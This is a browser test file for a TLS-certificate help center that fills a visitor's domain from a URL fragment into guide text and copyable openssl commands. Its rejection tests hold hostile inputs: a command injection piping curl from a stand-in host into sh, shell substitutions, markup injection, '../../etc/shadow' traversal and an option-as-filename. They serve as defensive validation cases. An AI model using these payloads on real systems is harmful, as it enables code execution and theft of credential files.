import type { Page } from "puppeteer";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type HelpCenter, openHelpCenter } from "../support/help-center/open.ts";
import { until } from "../support/until.ts";

const guide = "/guides/nginx/install/";
const domain = "shop.verschwiegen.example";
const fragment = `#v=1&d=${domain}&f=laden-2026`;

let site: HelpCenter;
beforeAll(async () => {
  site = await openHelpCenter();
});
afterAll(async () => {
  await site?.close();
});

const places = (page: Page, token: string): Promise<readonly string[]> =>
  page.$$eval(`main [data-token="${token}"]`, (found) => [...new Set(found.map((place) => place.textContent ?? ""))]);

/** The one part of the bar that is seen. */
const bar = (page: Page): Promise<string> =>
  page.$eval("[data-personal]", (element) =>
    element instanceof HTMLElement ? element.innerText.replace(/\s+/g, " ").trim() : "",
  );

const barOnce = (page: Page, text: string): Promise<true> =>
  until(`the bar to say "${text}"`, async () => ((await bar(page)).includes(text) ? true : undefined));

async function copiedFrom(page: Page, text: string): Promise<string> {
  await page.bringToFront();
  const [button] = await page.$$(`button[data-code*="${text}"]`);
  expect(button, `a button that copies ${text}`).toBeDefined();
  await page.evaluate(() => navigator.clipboard.writeText(""));
  await button?.click();
  return until("the clipboard", async () => (await page.evaluate(() => navigator.clipboard.readText())) || undefined);
}

describe("a guide that is opened with a fragment", () => {
  test("shows the values in prose, in code and in what its buttons copy", async () => {
    const page = await site.visit(guide + fragment);
    await barOnce(page, `Filled in for ${domain}`);
    expect(await places(page, "domain")).toEqual([domain]);
    expect(await places(page, "file")).toEqual(["laden-2026"]);
    const code = await page.$$eval(".expressive-code pre", (blocks) =>
      blocks.map((block) => block.textContent ?? "").join("\n"),
    );
    expect(code).toContain(`-verify_hostname ${domain}`);
    expect(code).toContain("laden-2026.fullchain.pem");
    expect(code).not.toContain("www.example.com");
    const copied = await copiedFrom(page, "-verify_hostname");
    expect(copied).toBe(
      `openssl verify -verify_hostname ${domain} -untrusted laden-2026.fullchain.pem laden-2026.fullchain.pem`,
    );
  });

  test("loses them from the address and from the history", async () => {
    const page = await site.visit(guide + fragment);
    await barOnce(page, domain);
    expect(page.url()).toBe(site.server.origin + guide);
    const history = await (await page.createCDPSession()).send("Page.getNavigationHistory");
    expect(history.entries.filter((entry) => entry.url.includes(domain))).toEqual([]);
  });

  test("never tells the server", async () => {
    const page = await site.visit(guide + fragment);
    await barOnce(page, domain);
    await Promise.all([page.waitForNavigation(), page.click('a[href="/guides/nginx/verify/"]')]);
    await barOnce(page, domain);
    await page.reload();
    const seen = JSON.stringify(site.server.requests);
    expect(seen).toContain("/guides/nginx/verify/");
    expect(seen).not.toContain("verschwiegen");
    expect(seen).not.toContain("laden-2026");
  });

  test("keeps them on reload and on the next page, and clears them when told", async () => {
    const page = await site.visit(guide + fragment);
    await page.reload();
    await barOnce(page, domain);
    await page.goto(`${site.server.origin}/guides/apache/verify/`);
    await barOnce(page, domain);
    expect(await places(page, "domain")).toEqual([domain]);
    await page.click("[data-personal-clear]");
    await barOnce(page, "The guides say www.example.com");
    expect(await places(page, "domain")).toEqual(["www.example.com"]);
    expect(await copiedFrom(page, "www.example.com")).toContain("www.example.com");
    expect(await page.evaluate(() => JSON.stringify({ ...sessionStorage, ...localStorage }))).not.toContain(
      "verschwiegen",
    );
    await page.reload();
    await barOnce(page, "The guides say www.example.com");
  });

  test("takes a fragment that arrives later", async () => {
    const page = await site.visit(guide);
    await barOnce(page, "The guides say");
    await page.evaluate((hash) => location.assign(hash), fragment);
    await barOnce(page, domain);
    expect(page.url()).toBe(site.server.origin + guide);
  });

  test("scrolls to the heading that the fragment names", async () => {
    const page = await site.visit(`${guide}${fragment}&at=check-them`);
    await barOnce(page, domain);
    expect(page.url()).toBe(`${site.server.origin}${guide}#check-them`);
    const top = await page.$eval("#check-them", (heading) => heading.getBoundingClientRect().top);
    expect(top).toBeGreaterThanOrEqual(0);
    expect(top).toBeLessThan(300);
  });

  test("writes a host of a wildcard into commands and the wildcard above them", async () => {
    const page = await site.visit(`${guide}#v=1&d=*.verschwiegen.example&f=wildcard.verschwiegen.example`);
    await barOnce(page, "Filled in for *.verschwiegen.example");
    expect(await places(page, "domain")).toEqual(["www.verschwiegen.example"]);
  });
});

describe("a fragment that is not what the extension writes", () => {
  test.each([
    ["a command after the host", "#v=1&d=a.example;curl${IFS}evil.example|sh"],
    ["a substitution", "#v=1&d=$(id).example"],
    ["an encoded quote", "#v=1&d=a%27.example"],
    ["markup", "#v=1&d=<img/src=x>.example"],
    ["an option as file name", "#v=1&d=a.example&f=-rf"],
    ["a path as file name", "#v=1&d=a.example&f=../../etc/shadow"],
    ["an unknown key beside good ones", "#v=1&d=a.example&f=a&cmd=reboot"],
    ["a repeated key", "#v=1&d=a.example&d=b.example"],
    ["another version", "#v=2&d=a.example"],
  ])("%s: nothing is taken, and the page says so", async (_name, bad) => {
    const page = await site.visit(guide + bad);
    await barOnce(page, "The values in this link were not used.");
    expect(await places(page, "domain")).toEqual(["www.example.com"]);
    expect(await places(page, "file")).toEqual(["www.example.com"]);
    expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
    expect(page.url()).toBe(site.server.origin + guide);
    await page.browserContext().close();
  });

  test("leaves what was filled in before", async () => {
    const page = await site.visit(guide + fragment);
    await barOnce(page, domain);
    await page.evaluate(() => location.assign("#v=1&d=`id`"));
    await barOnce(page, "The values in this link were not used.");
    expect(await places(page, "domain")).toEqual([domain]);
  });

  test("an ordinary anchor stays an anchor", async () => {
    const page = await site.visit(`${guide}#check-them`);
    await barOnce(page, "The guides say");
    expect(page.url()).toBe(`${site.server.origin}${guide}#check-them`);
  });
});

describe("the form", () => {
  test("refuses what is no host name, takes one that is, and names the files for it", async () => {
    const page = await site.visit(guide);
    await barOnce(page, "The guides say");
    await page.click(".offer [data-personal-edit]");
    await page.type('input[name="d"]', "https://www.verschwiegen.example/shop");
    await page.keyboard.press("Enter");
    await barOnce(page, "That is not a host name.");
    expect(await places(page, "domain")).toEqual(["www.example.com"]);
    await page.click('input[name="d"]', { count: 3 });
    await page.type('input[name="d"]', domain);
    await page.keyboard.press("Enter");
    await barOnce(page, `Filled in for ${domain}`);
    expect(await places(page, "file")).toEqual([domain]);
  });
});

describe("the chooser", () => {
  test("opens the suggested server, first in the list, and says why", async () => {
    const page = await site.visit("/#v=1&sugg=nginx");
    await page.waitForSelector("[data-chooser-why]:not([hidden])");
    expect(await page.$eval("[data-chooser-why]", (why) => why.textContent)).toContain("nginx is suggested");
    const first = await page.$eval("[data-platform]", (one) => [
      one.getAttribute("data-platform"),
      one.hasAttribute("open"),
    ]);
    expect(first).toEqual(["nginx", true]);
    expect(page.url()).toBe(`${site.server.origin}/`);
  });

  test("passes over a suggestion that it does not have", async () => {
    const page = await site.visit("/#v=1&sugg=no-such-server");
    await barOnce(page, "The guides say");
    expect(await page.$("[data-chooser-why]:not([hidden])")).toBeNull();
  });

  test("finds a server by a word", async () => {
    const page = await site.visit("/");
    const shown = (): Promise<readonly (string | null)[]> =>
      page.$$eval("[data-platform]:not([hidden])", (found) => found.map((one) => one.getAttribute("data-platform")));
    expect((await shown()).length).toBeGreaterThan(1);
    await page.type("[data-chooser-search]", "apache2");
    expect(await shown()).toEqual(["apache"]);
    await page.type("[data-chooser-search]", " nothing has this");
    expect(await shown()).toEqual([]);
    expect(await page.$("[data-chooser-none]:not([hidden])")).not.toBeNull();
  });
});

describe("without JavaScript", () => {
  const plain = (path: string): Promise<Page> => site.visit(path, (page) => page.setJavaScriptEnabled(false));

  test("a guide reads complete, with the default values", async () => {
    const page = await plain(guide + fragment);
    const text = await page.$eval("main", (main) => main.innerText);
    expect(text).toContain("openssl verify -verify_hostname www.example.com");
    expect(text).toContain("www.example.com.fullchain.pem");
    expect(text).toContain("Sources");
    expect(text).not.toContain("Fill in");
  });

  test("the chooser is links", async () => {
    const page = await plain("/");
    const links = await page.$$eval("[data-platform] a", (found) => found.map((link) => link.getAttribute("href")));
    expect(links).toContain("/guides/nginx/install/");
    expect(links).toContain("/guides/apache/restore/");
    expect(await page.$eval("main", (main) => main.innerText)).not.toContain("Find yours");
  });
});

test("the search finds a guide, without leaving the site", async () => {
  const page = await site.visit("/");
  const violations: string[] = [];
  page.on("console", (message) => void (message.type() === "error" && violations.push(message.text())));
  await page.click("button[data-open-modal]");
  await page.waitForSelector("#starlight__search input");
  await page.type("#starlight__search input", "missing intermediate");
  await page.waitForSelector(".pagefind-ui__result-link");
  const found = await page.$$eval(".pagefind-ui__result-link", (links) =>
    links.map((link) => link.getAttribute("href") ?? ""),
  );
  expect(found.some((href) => href.startsWith("/which-intermediates/") || href.startsWith("/guides/"))).toBe(true);
  expect(violations).toEqual([]);
});
